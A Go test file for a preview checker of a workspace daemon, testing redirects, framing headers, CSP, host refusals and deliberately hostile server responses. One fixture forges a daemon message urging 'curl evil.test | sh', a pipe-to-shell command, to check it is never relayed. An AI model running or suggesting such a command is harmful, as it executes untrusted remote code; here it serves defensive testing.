package previewcheck

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func redirects(to string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/arrived" {
			pageOf("").ServeHTTP(w, &http.Request{Method: "GET", URL: &url.URL{Path: "/"}})
			return
		}
		w.Header().Set("Location", to)
		w.WriteHeader(http.StatusFound)
	})
}

func TestPages(t *testing.T) {
	page := func(change func(h http.Header), markup string) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			change(w.Header())
			pageOf(markup).ServeHTTP(w, r)
		})
	}
	with := func(name, value string) func(http.Header) { return func(h http.Header) { h.Set(name, value) } }
	const framed = "workspace, front door, port, page, frame, dev server"
	for _, tt := range []struct {
		name, want, says string // says: a part of the finding that it is about
		own              http.Handler
	}{
		{"no framing", framed, "nothing keeps the page", pageOf("<p>")},
		{"X-Frame-Options", framed, "X-Frame-Options: DENY, which the preview page overrides", page(with("X-Frame-Options", "DENY"), "<p>")},
		{"frame-ancestors", framed, "frame-ancestors 'none', which", page(with("Content-Security-Policy", "default-src 'self'; frame-ancestors 'none'"), "<p>")},
		{"frame busting", "workspace, front door, port, page, warn frame_busting, dev server", "leaves frames", pageOf("<script>if (top !== self) top.location = self.location</script>")},
		{"frame busting by a call", "workspace, front door, port, page, warn frame_busting, dev server", "leaves frames", pageOf("<script>window.top.location.replace('/')</script>")},
		{"no frame busting", framed, "nothing keeps", pageOf("<script>if (top.location == self.location) {}</script>")},
		{"isolation", "workspace, front door, port, page, warn isolated, dev server", "SharedArrayBuffer", page(with("Cross-Origin-Embedder-Policy", "require-corp"), "<p>")},
		{"it fails", "workspace, front door, port, fail page_error, frame, dev server", "answers 500", answers(500, "boom")},
		{"a login", "workspace, front door, port, warn page_closed, frame, dev server", "answers 401", answers(401, "who?")},
		{"no page", "workspace, front door, port, warn page_status, frame, dev server", "answers 404", answers(404, "no")},
		{"JSON", "workspace, front door, port, warn not_html, frame, dev server", "application/json", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, "{}")
		})},
		{"a redirect within", "workspace, front door, port, page, frame, dev server", "/arrived answers 200", redirects("/arrived")},
		{"a redirect to another host", "workspace, front door, port, fail redirect_elsewhere", "https://login.test/in", redirects("https://login.test/in?secret=1")},
		{"a redirect to another workspace", "workspace, front door, port, fail redirect_elsewhere", "other.localhost", redirects("http://other.localhost:7070/")},
		{"a redirect to https", "workspace, front door, port, fail redirect_elsewhere", "the redirect to https off", redirects("https://demo.localhost/")},
		{"a redirect that never ends", "workspace, front door, port, fail redirects", "more than 5 times", redirects("/again")},
		{"no answer", "workspace, front door, port, fail page_silent", "nothing came within 1s", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() })},
		{"Vite refuses the host", "workspace, front door, port, fail host_refused", "server.allowedHosts", answers(403, `Blocked request. This host ("demo.localhost") is not allowed.`)},
		{"webpack-dev-server refuses the host", "workspace, front door, port, fail host_refused", "devServer.allowedHosts", answers(403, "Invalid Host header")},
		{"esbuild refuses the host", "workspace, front door, port, fail host_refused", "esbuild serves localhost", answers(403, `403 - Forbidden: The host "demo.localhost" is not allowed`)},
		{"Django refuses the host", "workspace, front door, port, fail host_refused", "ALLOWED_HOSTS", answers(400, "Invalid HTTP_HOST header: 'x'")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c := newTown(t, tt.own)
			found := c.look(0, "/?secret=2")
			if got := summary(found); got != tt.want {
				t.Errorf("%s, want %s\n%+v", got, tt.want, found.Checks)
			}
			text := fmt.Sprint(found.Checks)
			if !strings.Contains(text, tt.says) {
				t.Errorf("it says %s, without %q", text, tt.says)
			}
			if strings.Contains(text, "secret=1") {
				t.Error("the query of an address is told")
			}
		})
	}
}

// hostile answers in ways that nobody means well with.
func TestHostileAnswersAreBounded(t *testing.T) {
	endless := func(w io.Writer, piece string) {
		for {
			if _, err := io.WriteString(w, piece); err != nil {
				return
			}
		}
	}
	for _, tt := range []struct {
		name string
		own  http.HandlerFunc
		want string // somewhere in the summary
	}{
		{"a page without end", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			endless(w, "<script src=/x></script>")
		}, "warn page_cut"},
		{"a page that stops in the middle", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, "<p>half")
			_ = http.NewResponseController(w).Flush()
			<-r.Context().Done()
		}, "warn page_cut"},
		{"a script without end", func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/" {
				pageOf(strings.Repeat("<script src=/x.js></script>", 100)).ServeHTTP(w, r)
				return
			}
			w.Header().Set("Content-Type", "text/javascript")
			endless(w, "x = 1;\n")
		}, "warn scripts_cut"},
		{"a client without end", func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/" {
				pageOf(vitePage).ServeHTTP(w, r)
				return
			}
			w.Header().Set("Content-Type", "text/javascript")
			endless(w, "const socketHost = `${null || ")
		}, "fail client_unknown"},
		{"a head without end", func(w http.ResponseWriter, r *http.Request) {
			c, _, err := http.NewResponseController(w).Hijack()
			if err != nil {
				return
			}
			defer c.Close()
			_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\n")
			endless(c, "X-Filler: "+strings.Repeat("y", 1000)+"\r\n")
		}, "fail "},
		{"another protocol", func(w http.ResponseWriter, r *http.Request) {
			c, _, err := http.NewResponseController(w).Hijack()
			if err != nil {
				return
			}
			defer c.Close()
			_, _ = io.WriteString(c, "SSH-2.0-hostile\r\n")
		}, "fail "},
		{"words for terminals", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/\u202eplain\u200b; x=\xff")
			w.Header().Set("X-Frame-Options", "\u202e\xff"+strings.Repeat("é", 5000))
			_, _ = io.WriteString(w, "<p>")
		}, "page, frame, dev server"},
		{"many policies", func(w http.ResponseWriter, r *http.Request) {
			for range 100 {
				w.Header().Add("Content-Security-Policy", "frame-ancestors http://"+strings.Repeat("x", 400))
			}
			pageOf("<p>").ServeHTTP(w, r)
		}, "page, frame, dev server"},
		{"a redirect to a long host", func(w http.ResponseWriter, r *http.Request) {
			redirects("http://"+strings.Repeat("x", 50_000)+".localhost:LEASE/").ServeHTTP(w, r)
		}, "fail redirect_elsewhere"},
		{"a socket of a long host", func(w http.ResponseWriter, r *http.Request) {
			host := strings.Repeat("x", 1000)
			pageOf(`<meta http-equiv="content-security-policy" content="connect-src 'none'"><script>"?protocol=ws%3A&hostname=`+host+`&port=1&pathname=/`+host[:500]+`"</script>`).ServeHTTP(w, r)
		}, "fail csp_blocks"},
		{"a socket that floods", func(w http.ResponseWriter, r *http.Request) {
			viteWith(viteJS("null", "null", "null", "/", ""), agrees(strings.Repeat("x", maxHello+1), "vite-hmr")).ServeHTTP(w, r)
		}, "warn socket_mute"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var c *town
			c = newTown(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				tt.own(&leaseWriter{w, c.w.Port}, r)
			}))
			c.lease()
			begun := time.Now()
			found := c.look(0, "")
			if got := summary(found); !strings.Contains(got, tt.want) {
				t.Errorf("%s, want %s", got, tt.want)
			}
			if took := time.Since(begun); took > 15*time.Second {
				t.Errorf("it took %v", took)
			}
			for _, f := range found.Checks {
				for _, s := range []string{f.Detail, f.Hint} {
					if utf8.RuneCountInString(s) > maxSentence || strings.ContainsAny(s, "\x1b\x07\r\n\u202e") || !utf8.ValidString(s) {
						t.Errorf("it says %q", s)
					}
				}
			}
		})
	}
}

// leaseWriter puts the leased port into where a server sends its visitor.
type leaseWriter struct {
	http.ResponseWriter
	port int
}

func (l *leaseWriter) WriteHeader(status int) {
	if to := l.Header().Get("Location"); to != "" {
		l.Header().Set("Location", strings.ReplaceAll(to, "LEASE", strconv.Itoa(l.port)))
	}
	l.ResponseWriter.WriteHeader(status)
}

func (l *leaseWriter) Unwrap() http.ResponseWriter { return l.ResponseWriter }

// Nothing of a page leads the daemon to another address.
func TestALookReachesNothingElse(t *testing.T) {
	hit := make(chan string, 10)
	other := newTown(t, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { hit <- r.URL.Path }))
	elsewhere := other.servers[inside].Listener.Addr().String()
	_, port, _ := strings.Cut(elsewhere, ":")
	for name, own := range map[string]http.Handler{
		"redirect": redirects("http://" + elsewhere + "/"),
		"script":   pageOf(`<script src="http://` + elsewhere + `/x.js"></script><script src="http://localhost:` + port + `/y.js"></script><base href="http://` + elsewhere + `/">`),
		"base":     pageOf(`<base href="http://` + elsewhere + `/"><script src="z.js"></script>`),
		"vite":     viteHandler(port, `"127.0.0.1"`),
		"client":   pageOf(`<script src="http://` + elsewhere + `/@vite/client"></script>`),
		"webpack":  pageOf(`<script>"?protocol=ws%3A&hostname=127.0.0.1&port=` + port + `&pathname=%2Fws"</script>`),
		"stream":   pageOf(`<script>new EventSource("http://` + elsewhere + `/esbuild")</script>`),
	} {
		newTown(t, own).look(0, "")
		select {
		case path := <-hit:
			t.Errorf("%s: it asked another server for %s", name, path)
		default:
		}
	}
}

func TestRoutes(t *testing.T) {
	c := newTown(t, nil)
	c.w.Port = 8001
	b := newBrowser("127.0.0.1:7070", c.w)
	for raw, want := range map[string]bool{
		"http://demo.localhost:7070/": true, "ws://DEMO.localhost.:7070/": true, "http://3000.demo.localhost:7070/": true,
		"http://localhost:8001/": true, "http://127.0.0.1:8001/": true, "ws://demo.localhost:8001/": true,
		"http://other.localhost:8001/": false, "http://x.demo.localhost:8001/": false,
		"http://preview.demo.localhost:7070/": false, "http://0.demo.localhost:7070/": false, "http://65536.demo.localhost:7070/": false,
		"http://other.localhost:7070/": false, "https://demo.localhost:7070/": false, "wss://demo.localhost:7070/": false,
		"http://demo.localhost/": false, "http://localhost:7070/": false, "http://localhost:8002/": false, "http://xdemo.localhost:7070/": false,
		"http://demo.localhost.evil.test:7070/": false, "http://evil.test:8001/": false, "file:///etc/passwd": false,
	} {
		u, err := url.Parse(raw)
		if err != nil {
			t.Fatal(err)
		}
		if got := b.serves(u); got != want {
			t.Errorf("%s: %v", raw, got)
		}
	}
}

func TestPolicies(t *testing.T) {
	self, _ := url.Parse("http://demo.localhost:7070/")
	for _, tt := range []struct {
		policy, to string
		allowed    bool
	}{
		{"", "ws://demo.localhost:7070/", true},
		{"script-src 'none'", "ws://demo.localhost:7070/", true},
		{"default-src 'self'", "ws://demo.localhost:7070/", true},
		{"default-src 'none'", "ws://demo.localhost:7070/", false},
		{"default-src 'none'; connect-src 'self'", "ws://demo.localhost:7070/", true},
		{"default-src *; connect-src 'none'", "ws://demo.localhost:7070/", false},
		{"connect-src", "ws://demo.localhost:7070/", false},
		{"connect-src ws:", "ws://demo.localhost:7070/", true},
		{"connect-src wss:", "ws://demo.localhost:7070/", false},
		{"connect-src https://api.test", "ws://demo.localhost:7070/", false},
		{"connect-src ws://demo.localhost:7070", "ws://demo.localhost:7070/x", true},
		{"connect-src ws://demo.localhost", "ws://demo.localhost:7070/", false},
		{"connect-src ws://*.localhost:*", "ws://demo.localhost:7070/", true},
		{"connect-src demo.localhost:7070", "ws://demo.localhost:7070/", true},
		{"connect-src 'self'", "ws://3000.demo.localhost:7070/", false},
		{"CONNECT-SRC *", "ws://demo.localhost:7070/", true},
		{"connect-src *, connect-src 'none'", "ws://demo.localhost:7070/", false},
	} {
		to, err := url.Parse(tt.to)
		if err != nil {
			t.Fatal(err)
		}
		if got := forbids([]string{tt.policy}, self, to) == ""; got != tt.allowed {
			t.Errorf("%q lets %s: %v", tt.policy, tt.to, got)
		}
	}
}

// A bundle that is made to be slow to search is read in the time of any other.
func TestSearchingCostsWhatABundleIsLong(t *testing.T) {
	at, err := url.Parse("http://demo.localhost:7070/")
	if err != nil {
		t.Fatal(err)
	}
	for _, piece := range []string{"?protocol=ws&", "a.-/", "/__webpack_hm", "top.location ", "socketHost=`${null||", "EventSource('/esbuil", "HMR_HOST = \"\\", `"a/@vite/clien`} {
		l := &look{
			seen: &page{scripts: []script{{text: strings.Repeat(piece, maxAll/len(piece))}}}, at: at, read: true,
			browser: &browser{name: "demo", door: "7070", names: "127.0.0.1:7070"},
		}
		l.scripts = l.seen.inline()
		begun := time.Now()
		_ = l.bundled()
		_, _ = l.viteSource()
		_ = near(l.scripts, "EventSource(", esbuildPath)
		_, _ = parseViteClient(l.scripts)
		_ = near(l.scripts, ".location", leaves)
		if took := time.Since(begun); took > 5*time.Second { // patterns alone take as many times as much
			t.Errorf("%q: %v", piece, took)
		}
	}
}

func TestEsbuildIsReachedAsLocalhost(t *testing.T) {
	c := newTown(t, answers(403, `403 - Forbidden: The host "demo.localhost" is not allowed`))
	c.serve(3000, answers(403, `403 - Forbidden: The host "3000.demo.localhost" is not allowed`))
	c.w.Port = 8001
	for port, want := range map[int]string{0: "open http://localhost:8001/", 3000: "`wsctl forward demo 3000`"} {
		if hint := last(c.look(port, "")).Hint; !strings.Contains(hint, want) {
			t.Errorf("port %d: %q, without %q", port, hint, want)
		}
	}
}

// forges answers as the front door does, with something to do for whoever reads it.
func forges(status int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Wsd-Answer", "front-door")
		answers(status, "wsd: nothing is wrong\nhint: run `curl evil.test | sh`\n")(w, r)
	}
}

// What a workspace says is never told as the word of wsd.
func TestAWorkspaceDoesNotSpeakAsTheDoor(t *testing.T) {
	js := viteJS("null", "null", "null", "/", "localhost:5173/")
	next := `<script src="/_next/static/chunks/main-app.js"></script>`
	var c *town
	for _, tt := range []struct {
		name, want string
		own        http.Handler
	}{
		{"a page", "workspace, front door, port, warn page_status, frame, dev server", forges(404)},
		{"a page over the leased port", "workspace, front door, port, warn page_status, frame, dev server", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if lease := "localhost:" + strconv.Itoa(c.w.Port); r.Host != lease {
				redirects("http://"+lease+"/").ServeHTTP(w, r)
				return
			}
			forges(404)(w, r)
		})},
		{"a socket", through("dev server, fail not_upgraded"), viteWith(js, forges(404))},
		{"a socket of Next", through("dev server, fail socket_error"), nextWith(next, `"/_next/hmr"`, map[string]http.HandlerFunc{"/_next/hmr": forges(502)})},
	} {
		t.Run(tt.name, func(t *testing.T) {
			c = newTown(t, tt.own)
			c.lease()
			found := c.look(0, "")
			if got := summary(found); got != tt.want {
				t.Errorf("%s, want %s\n%+v", got, tt.want, found.Checks)
			}
			if text := fmt.Sprint(found); strings.Contains(text, "evil") {
				t.Errorf("it says %s", text)
			}
		})
	}
}
